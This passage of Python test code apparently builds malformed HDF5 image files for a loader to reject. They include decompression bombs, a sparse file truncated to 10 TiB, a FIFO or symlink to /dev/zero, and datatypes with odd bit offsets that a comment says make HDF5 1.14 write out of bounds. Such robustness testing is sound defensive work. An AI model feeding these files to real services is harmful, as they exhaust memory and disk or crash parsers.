        put_chunk(path, zlib.compress(random_images(1).tobytes()), 0, compression="gzip")
    else:
        put_chunk(path, (b"\x1f" + bytes(32)) * 20, 0, compression="lzf")


@useless("later chunk that unpacks long")
def long_chunk(path: Path, one: bool) -> None:
    content = zlib.compress(bytes(201_601 if one else 1 << 27), 9)
    put_chunk(path, content, 0, compression="gzip", shuffle=not one)


@useless("chunks that each hold all images")
def chunks_across(path: Path, one: bool) -> None:
    """So that every batch unpacks them all anew: here more than 2 GiB."""
    count, dtype, chunk = (600_000, "f8", (600_000, 1, 1, 1)) if one else (1 << 22, "f4", None)
    zeros_in_chunks(path, count, SHAPE, chunk or (1 << 22, 1, 2, 2), dtype)


@useless("more images than anybody has")
def many_images(path: Path, one: bool) -> None:
    shape = (1, 1, 1) if one else (2, 1, 3)
    count = 1 << (28 if one else 23)
    zeros_in_chunks(path, count, shape, (1 << 22, 1, 1, 1))


@useless("images too large for any network")
def large_images(path: Path, one: bool) -> None:
    shape = (8000, 8000, 3) if one else (1, 1 << 23, 1)
    zeros_in_chunks(path, 10, shape, (1, 1, min(shape[0], 4000), min(shape[1], 8000)))


@useless("file that is not there but for its start")
def hollow(path: Path, one: bool) -> None:
    write_images(path, random_images(6), np.zeros(6))
    if one:
        os.truncate(path, 10 << 40)
        return
    with h5py.File(path, "w") as file:
        data = file.create_dataset("data", (1 << 31, 3, 14, 12), "f8")
        data[0] = 0
        file["label"] = np.zeros(6)


@useless("pipe or device")
def pipe(path: Path, one: bool) -> None:
    os.mkfifo(path) if one else path.symlink_to("/dev/zero")


@useless("numbers at odd places of their bytes")
def odd_bits(path: Path, one: bool) -> None:
    """HDF5 1.14 writes past its memory where a type's bits begin where they cannot."""
    kind = (h5py.h5t.STD_I32LE if one else h5py.h5t.IEEE_F32BE).copy()
    if one:
        kind.set_precision(12)
        kind.set_offset(7)
    else:
        kind.set_fields(31, 20, 11, 0, 20)
    write_images(path, random_images(6), np.zeros(6))
    with h5py.File(path, "r+") as file:
        name, size = ("data", (6, 3, 14, 12)) if one else ("label", (6,))
        del file[name]
        array = h5py.h5d.create(file.id, name.encode(), kind, h5py.h5s.create_simple(size))
        array.write(h5py.h5s.ALL, h5py.h5s.ALL, np.zeros(size, "i4" if one else "f4"))
